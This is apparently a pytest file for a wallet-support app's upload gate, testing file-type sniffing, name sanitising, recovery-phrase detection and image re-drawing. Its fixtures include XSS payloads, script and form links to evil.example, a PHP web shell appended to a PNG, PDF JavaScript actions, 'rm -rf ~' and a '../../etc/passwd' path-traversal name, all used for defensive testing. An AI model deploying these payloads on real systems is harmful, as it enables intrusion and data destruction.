"""What becomes of a file before it is stored: by its content, never by its name."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
from PIL import Image

from tests.files import made
from walletdesk.files import pictures, redraw, refusals
from walletdesk.files.intake import Harmless, made_harmless
from walletdesk.files.rules import Limits
from walletdesk.kit.errors import WalletdeskError
from walletdesk.wire import Certainty, RawText, SecretKind

LIMITS = Limits()


def taken(name: str, data: bytes, limits: Limits = LIMITS) -> Harmless:
    return made_harmless(RawText(name), data, limits)


def opened(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data))


# -- kinds -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent_as", "data", "name", "media_type"),
    [
        ("shot.png", made.picture("PNG"), "shot.png", "image/png"),
        ("photo.jpeg", made.picture("JPEG"), "photo.jpeg", "image/jpeg"),
        ("photo.jpg", made.picture("PNG"), "photo.png", "image/png"),
        ("sticker.webp", made.picture("WEBP"), "sticker.png", "image/png"),
        ("moving.gif", made.animation(), "moving.png", "image/png"),
        ("IMG_1.HEIC", made.film(b"heic"), "IMG_1.HEIC", "image/heic"),
        ("clip.mp4", made.film(b"isom"), "clip.mp4", "video/mp4"),
        ("clip.mov", made.film(b"qt  "), "clip.mov", "video/quicktime"),
        ("voice.ogg", made.recording(), "voice.ogg", "audio/ogg"),
        ("song.mp3", made.recording(b"\x01vorbis"), "song.mp3.ogg", "audio/ogg"),
        ("bill.pdf", made.pdf(), "bill.pdf", "application/pdf"),
        ("bill.exe", made.pdf(), "bill.exe.pdf", "application/pdf"),
        ("logs.zip", made.archive(("a.log", b"all well\n")), "logs.zip", "application/zip"),
        ("state.json", b'{"version": 2}', "state.json", "application/json"),
        ("state.json", b'{"version": 2}\n{"version": 3}', "state.json", "text/plain"),
        ("table.csv", "日期,金额\n1月,3".encode(), "table.csv", "text/plain"),
        ("run.bat", b"@echo off\r\ndel *.*", "run.bat.txt", "text/plain"),
        ("page.html", b"nothing but words", "page.html.txt", "text/plain"),
        ("", b"words", "file.txt", "text/plain"),
        ("mail.htm", b"<!DOCTYPE html><p>hello <b>you</b>", "mail.htm", "text/html"),
        ("mail.txt", b"\xef\xbb\xbf \n<html>hello", "mail.html", "text/html"),
    ],
)
def test_a_file_is_what_its_bytes_say_and_its_name_is_made_to_agree(
    sent_as: str, data: bytes, name: str, media_type: str
) -> None:
    file = taken(sent_as, data)
    assert (file.name, file.media_type) == (name, media_type)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", refusals.EmptyFile),
        (b"MZ\x90\x00" + bytes(200), refusals.ProgramNotAllowed),
        (b"\x7fELF" + bytes(200), refusals.ProgramNotAllowed),
        (b"#!/bin/sh\nrm -rf ~\n", refusals.ProgramNotAllowed),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), refusals.ProgramNotAllowed),
        (b"<!DOCTYPE html><p onclick=alert(1)>hello", refusals.PageNotAllowed),
        (b"\xef\xbb\xbf \n<html><form action=//evil.example>", refusals.PageNotAllowed),
        (b"<html><a href=' jaVa\tscript:alert(1)'>hello", refusals.PageNotAllowed),
        (b"<html><meta http-equiv=refresh content='0;url=//evil.example'>", refusals.PageNotAllowed),
        (b"<html><!--[if IE]><script>alert(1)</script><![endif]-->", refusals.PageNotAllowed),
        ("<html><script>alert(1)</script>".encode("utf-16"), refusals.PageNotAllowed),
        (b"<!-- a -->\n<!-- b --><script>alert(1)</script>", refusals.PageNotAllowed),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', refusals.PageNotAllowed),
        (b'<?xml version="1.0"?><svg/>', refusals.PageNotAllowed),
        (b"Rar!\x1a\x07\x01\x00" + bytes(50), refusals.KindNotAllowed),
        (bytes(range(256)) * 8, refusals.KindNotAllowed),
        (made.film(b"evil"), refusals.KindNotAllowed),
        (made.recording(b"\x80theora"), refusals.KindNotAllowed),
        (made.recording()[:-1], refusals.Damaged),
        (made.recording(rest=b"x"), refusals.Damaged),
    ],
)
def test_programs_pages_and_unknown_kinds_are_refused_whatever_they_are_called(
    data: bytes, why: type[WalletdeskError]
) -> None:
    with pytest.raises(why):
        taken("holiday.png", data)


def _gif_that_is_a_script() -> bytes:
    gif = bytearray(made.animation())
    gif[6:8] = b"/*"
    return bytes(gif) + b"*/=1;alert(document.domain)"


@pytest.mark.parametrize(
    "data",
    [
        _gif_that_is_a_script(),
        made.animation() + b"<script>alert(1)</script>",
        made.picture("JPEG", comment=b"<!doctype html><script src=//evil.example></script>"),
        made.picture("PNG") + b"<?php system($_GET[0]); ?>",
        made.picture("PNG") + made.archive(("a.txt", b"a")),
        made.picture("GIF") + made.pdf(),
        made.pdf(b"stream") + made.archive(("a.txt", b"a")) + b"%%EOF",
        made.pdf(b"<script>alert(1)</script>"),
    ],
)
def test_a_file_of_two_kinds_at_once_is_refused(data: bytes) -> None:
    with pytest.raises(refusals.TwoKinds):
        taken("cat.gif", data)


def test_nothing_may_stand_behind_the_end_of_a_film() -> None:
    with pytest.raises(refusals.Damaged):
        taken("clip.mp4", made.film(rest=made.archive(("a.txt", b"a"))))
    with pytest.raises(refusals.Damaged):
        taken("clip.mp4", made.film()[:-1])


@pytest.mark.parametrize(
    "action", [b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/S /L#61unch", b"/J#53 ("]
)
def test_a_pdf_that_would_run_something_is_refused(action: bytes) -> None:
    with pytest.raises(refusals.ActiveDocument):
        taken("bill.pdf", made.pdf(b"<< " + action + b" >>"))


def test_half_a_pdf_is_refused() -> None:
    with pytest.raises(refusals.Damaged):
        taken("bill.pdf", made.pdf()[:40])


# -- names ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("C:\\Users\\me\\note.txt", "note.txt"),
        ("invoice\u202etxt.exe", "invoicetxt.exe.txt"),
        ('a"b\r\nc<d>|e.txt', "abcde.txt"),
        (".txt", "txt.txt"),
        ("  截图 2026.txt ", "截图 2026.txt"),
        ("x" * 400 + ".txt", "x" * 100 + ".txt"),
        ("con.txt.", "con.txt"),
    ],
)
def test_a_name_carries_no_path_no_tricks_and_no_end(sent: str, stored: str) -> None:
    assert taken(sent, b"words").name == stored


# -- secrets -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (made.KEYSTORE, SecretKind.KEYSTORE),
        (f"my words are {made.PHRASE} thanks", SecretKind.RECOVERY_PHRASE),
        (json.dumps({"accounts": [{"name": "main", "seed": made.PHRASE.split()}]}), SecretKind.RECOVERY_PHRASE),
        (
            json.dumps([{"nr": nr, "word": word} for nr, word in enumerate(made.PHRASE.split())], indent=2),
            SecretKind.RECOVERY_PHRASE,
        ),
        ("\n".join(f"{nr},{word}" for nr, word in enumerate(made.PHRASE.split(), 1)), SecretKind.RECOVERY_PHRASE),
        (
            '{"note": "' + "".join(f"\\u{ord(char):04x}" for char in made.PHRASE) + '"}',
            SecretKind.RECOVERY_PHRASE,
        ),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "gb18030"])
def test_a_text_that_holds_a_secret_is_refused_and_says_what_it_was(text: str, kind: SecretKind, encoding: str) -> None:
    with pytest.raises(refusals.HoldsSecret) as refused:
        taken("backup.json", text.encode(encoding))
    assert kind in {found.kind for found in refused.value.found}
    shown = repr(refused.value) + str(refused.value) + refused.value.text + repr(refused.value.values)
    assert made.PHRASE.split()[3] not in shown


def test_a_secret_in_a_name_is_refused_too() -> None:
    with pytest.raises(refusals.HoldsSecret):
        taken(f"{made.PHRASE}.png", made.picture())
    with pytest.raises(refusals.HoldsSecret):
        taken(f"{made.PHRASE.replace(' ', '_')}.txt", b"words")


def test_a_secret_in_a_text_inside_a_zip_or_in_its_names_is_refused() -> None:
    for content in (("deep/down/keystore.json", made.KEYSTORE.encode()), (f"{made.PHRASE}.txt", b"words")):
        with pytest.raises(refusals.HoldsSecret):
            taken("logs.zip", made.archive(("a.log", b"all well"), content))


def test_transaction_hashes_in_a_table_are_no_secret() -> None:
    rows = "\n".join(f"0x{number:064x},confirmed" for number in range(3**90, 3**90 + 50))
    assert taken("hashes.csv", f"transaction,state\n{rows}".encode()).data.decode().endswith("confirmed")


def test_a_value_that_may_be_a_key_is_masked_and_the_file_is_kept() -> None:
    value = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    file = taken("note.txt", f"what is this\n{value}\n".encode())
    assert value.encode() not in file.data
    assert b"what is this" in file.data


def test_a_text_the_gate_cannot_read_whole_is_not_taken() -> None:
    with pytest.raises(refusals.TextTooLarge):
        taken("big.log", b"2026-01-05 all well\n" * 60_000)


def test_text_is_stored_as_utf8_whatever_it_came_as() -> None:
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "gb18030"):
        assert taken("a.txt", "转账没有到账".encode(encoding)).data.decode() == "转账没有到账"


def test_what_is_asked_about_says_so() -> None:
    with pytest.raises(refusals.HoldsSecret) as refused:
        taken("a.txt", made.PHRASE.encode())
    assert refused.value.found[0].certainty is Certainty.CERTAIN


# -- pictures ------------------------------------------------------------------------


def test_a_photograph_keeps_its_picture_and_loses_its_place() -> None:
    photo = made.photo_with_place()
    assert made.PLACE.encode() in photo
    file = taken("photo.jpg", photo)
    image = opened(file.data)
    assert (file.width, file.height) == image.size == (20, 40)  # upright now
    assert made.PLACE.encode() not in file.data
    assert not image.getexif()
    assert "comment" not in image.info
    top, bottom = image.convert("RGB").getpixel((10, 5)), image.convert("RGB").getpixel((10, 35))
    assert isinstance(top, tuple) and isinstance(bottom, tuple)
    assert (top[0] > 200, bottom[2] > 200) == (True, True)


def test_words_hidden_in_a_drawing_are_gone() -> None:
    drawing = made.png_with_words()
    assert made.PLACE.encode() in drawing
    file = taken("drawing.png", drawing)
    assert made.PLACE.encode() not in file.data
    assert set(opened(file.data).info) == set()


def test_what_stands_behind_a_picture_is_gone() -> None:
    hidden = b"ftypmp42 the moving part of a photograph"
    assert hidden not in taken("photo.jpg", made.picture("JPEG") + hidden).data


def test_of_an_animation_one_frame_is_kept() -> None:
    assert getattr(opened(taken("moving.gif", made.animation()).data), "n_frames", 1) == 1


def test_a_large_picture_is_made_smaller_and_gets_a_preview() -> None:
    file = taken("photo.jpg", made.picture("JPEG", (3000, 1500)))
    assert (file.width, file.height) == (2560, 1280)
    assert opened(file.preview).size == (480, 240)
    assert opened(file.preview).format == "WEBP"
    assert taken("shot.png", made.picture()).preview == b""


@pytest.mark.parametrize(("form", "mode"), [("PNG", "1"), ("PNG", "L"), ("PNG", "P"), ("PNG", "LA"), ("PNG", "RGBA")])
def test_every_kind_of_drawing_is_drawn(form: str, mode: str) -> None:
    assert taken("a.png", made.picture(form, mode=mode)).media_type == "image/png"


def test_sixteen_bits_a_pixel_and_four_inks_are_drawn() -> None:
    out = io.BytesIO()
    Image.new("I;16", (8, 8), 40_000).save(out, "PNG")
    grey = opened(taken("a.png", out.getvalue()).data).getpixel((1, 1))
    assert grey == 40_000 // 256
    assert taken("a.jpg", made.picture("JPEG", mode="CMYK")).media_type == "image/jpeg"


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_drawn() -> None:
    with pytest.raises(refusals.PictureTooLarge):
        taken("bomb.png", made.png_that_claims(100_000, 100_000))
    with pytest.raises(refusals.PictureTooLarge):
        taken("bomb.png", made.picture(size=(101, 100)), msgspec.structs.replace(LIMITS, drawn_pixels=10_000))


@pytest.mark.parametrize(
    "data",
    [
        made.picture("PNG", (400, 400))[:-40],
        made.picture("JPEG", (400, 400))[:-300],
        made.picture("WEBP", (400, 400))[:-30],
        made.png_that_claims(200, 200),
        b"GIF89a but not really",
        b"\xff\xd8\xff\xe0" + bytes(100),
    ],
)
def test_a_cut_off_or_broken_picture_is_refused(data: bytes) -> None:
    with pytest.raises(refusals.Damaged):
        taken("photo.png", data)


def _run_limited(program: str) -> subprocess.CompletedProcess[bytes]:
    """`program` in a child that limits itself as the one that draws does."""
    start = f"import runpy; m = runpy.run_path({str(Path(redraw.__file__))!r}); m['limit_myself'](); "
    return subprocess.run([sys.executable, "-I", "-c", start + program], capture_output=True, check=False)


@pytest.mark.skipif(sys.platform != "linux", reason="other systems limit less; the time-out stands there too")
def test_the_child_that_draws_has_little_memory_and_writes_no_file(tmp_path: Path) -> None:
    hungry = _run_limited("bytearray(2 << 30)")
    assert b"MemoryError" in hungry.stderr
    target = tmp_path / "written"
    assert _run_limited(f"open({str(target)!r}, 'wb').write(b'x' * 10_000)").returncode != 0
    assert not target.exists() or target.stat().st_size == 0


def test_a_child_that_takes_too_long_is_ended(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    sleeper = tmp_path / "sleeper.py"
    sleeper.write_text("import sys, time\nsys.stdin.buffer.read()\ntime.sleep(600)\n")
    monkeypatch.setattr(pictures, "_PROGRAM", sleeper)
    monkeypatch.setattr(pictures, "_TIMEOUT_S", 0.2)
    with pytest.raises(refusals.Damaged):
        taken("photo.png", made.picture())


def test_a_child_that_dies_costs_its_picture_and_nothing_else(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    broken = tmp_path / "broken.py"
    broken.write_text("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")
    monkeypatch.setattr(pictures, "_PROGRAM", broken)
    with pytest.raises(refusals.Damaged):
        taken("photo.png", made.picture())


def test_the_limit_on_size_names_both_sizes() -> None:
    with pytest.raises(refusals.FileTooLarge) as refused:
        taken("a.pdf", made.pdf(b"x" * 2_100_000), msgspec.structs.replace(LIMITS, file_bytes=2_000_000))
    assert refused.value.values == {"size_mb": "2.1", "limit_mb": "2"}


@pytest.mark.parametrize(
    ("data", "unread"),
    [
        (made.film(b"heic"), True),
        (made.pdf(), False),
        (b"words", False),
        (b'{"version": 2}', False),
    ],
)
def test_whether_pictures_went_by_unread_is_told(data: bytes, unread: bool) -> None:
    assert taken("it", data).unread is unread
